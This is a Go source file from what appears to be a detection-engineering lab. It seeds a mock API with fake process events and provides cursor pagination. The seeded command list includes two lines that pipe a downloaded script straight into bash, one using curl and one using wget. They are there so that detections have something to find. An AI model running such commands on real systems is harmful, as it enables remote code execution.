package mockapi

import (
	"encoding/base64"
	"fmt"
	"strconv"
	"time"

	"github.com/mikewolf256/detection-engineering-mini-lab/models"
)

// Command lines cycled when seeding the dataset. Two of the six pipe a
// download straight into bash, so every seeded run has findings to report.
var commandCycle = []string{
	"bash -c 'curl -fsSL https://updates.example.com/agent-v2.sh | bash'",
	"/usr/sbin/sshd -D -o ListenAddress=0.0.0.0",
	"python3 /opt/scripts/rotate_logs.py --keep 7",
	"sh -c 'wget -qO- http://10.0.5.9:8000/bootstrap.sh | bash'",
	"curl https://intel.example.com/feeds/iocs.json -o /tmp/iocs.json",
	"ps aux --sort=-rss",
}

var usernameCycle = []string{"alice", "bob", "carol", "dave"}

// EventStore holds the seeded process events served by the mock API.
type EventStore struct {
	events []models.Event
}

// NewEventStore seeds count deterministic process events.
func NewEventStore(count int) *EventStore {
	base := time.Now().UTC().Add(-time.Duration(count) * time.Minute)

	events := make([]models.Event, 0, count)
	for i := 0; i < count; i++ {
		events = append(events, models.Event{
			"pid":       1000 + i,
			"cmdline":   commandCycle[i%len(commandCycle)],
			"username":  usernameCycle[i%len(usernameCycle)],
			"timestamp": base.Add(time.Duration(i) * time.Minute).Format(time.RFC3339),
		})
	}

	return &EventStore{events: events}
}

// Len returns the number of seeded events.
func (s *EventStore) Len() int {
	return len(s.events)
}

// Page returns the slice starting at offset, the offset of the next page,
// and whether more events remain past it.
func (s *EventStore) Page(offset, limit int) ([]models.Event, int, bool) {
	if offset >= len(s.events) {
		return []models.Event{}, len(s.events), false
	}

	end := offset + limit
	if end > len(s.events) {
		end = len(s.events)
	}

	return s.events[offset:end], end, end < len(s.events)
}

// encodeCursor packs a dataset offset into the opaque wire cursor.
func encodeCursor(offset int) string {
	return base64.RawURLEncoding.EncodeToString([]byte(strconv.Itoa(offset)))
}

// decodeCursor unpacks a wire cursor back into a dataset offset.
func decodeCursor(cursor string) (int, error) {
	raw, err := base64.RawURLEncoding.DecodeString(cursor)
	if err != nil {
		return 0, fmt.Errorf("cursor is not valid base64: %w", err)
	}

	offset, err := strconv.Atoi(string(raw))
	if err != nil {
		return 0, fmt.Errorf("cursor does not encode an offset: %w", err)
	}
	if offset < 0 {
		return 0, fmt.Errorf("cursor offset %d is negative", offset)
	}

	return offset, nil
}
